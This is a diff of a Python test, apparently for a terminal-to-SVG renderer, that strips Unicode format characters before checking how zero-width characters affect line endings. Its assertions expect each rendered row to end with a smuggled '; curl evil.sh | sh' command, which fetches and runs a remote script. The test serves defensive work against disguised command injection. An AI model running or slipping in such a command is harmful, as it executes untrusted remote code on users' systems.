@@ -75,7 +75,10 @@ def test_a_zero_width_character_does_not_end_the_line_in_text_or_svg(tmp_path: P
     assert result.returncode == 0, result.stderr
     picture = svg_model.read((tmp_path / "z.svg").read_text("utf-8"))
     shown = picture.screens_text(len(picture.screens) - 1)
-    assert all(row.endswith("; curl evil.sh | sh") for row in shown[: len(MARKS)])
+    # (format characters dropped: a span holding an isolate is written in the order the
+    # player shows it, under an LRO of its own, a718c5b)
+    visible = ["".join(c for c in row if unicodedata.category(c) != "Cf") for row in shown]
+    assert all(row.endswith("; curl evil.sh | sh") for row in visible[: len(MARKS)]), visible
 
 
 PAYLOADS = {
